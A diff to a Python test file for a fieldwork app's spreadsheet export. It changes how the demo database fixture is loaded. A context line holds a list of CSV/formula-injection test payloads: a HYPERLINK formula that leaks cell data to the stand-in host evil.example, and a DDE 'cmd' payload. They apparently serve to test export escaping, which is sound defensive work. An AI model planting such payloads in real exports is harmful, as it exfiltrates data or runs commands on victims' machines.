@@ -14,7 +14,7 @@ from openpyxl import load_workbook
 
 from exports.cells import safe, unquote
 from fieldwork import audit, db
-from fieldwork.services import demo, exporting, findings, importing, inspections
+from fieldwork.services import exporting, findings, importing, inspections
 from fieldwork.services.permissions import INSPECTOR, Actor, PermissionDenied
 from fieldwork.services.store import CaseRecord, add_complete_assessments
 from models import User
@@ -28,10 +28,8 @@ NASTY = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
 @pytest.fixture(scope="module")
 def demo_db(tmp_path_factory):
     """The demonstration set (112 case_review + 270 pin_review), loaded once for the module."""
-    url = new_database_url(tmp_path_factory.mktemp("demo"), "demo")
+    url = new_database_url(tmp_path_factory.mktemp("demo"), "demo", demo=True)
     engine = db.get_engine(url)
-    with db.session_scope(engine) as s:
-        demo.load(s, actor="test")
     yield engine
     db.dispose_all()
     if url.startswith("postgresql"):
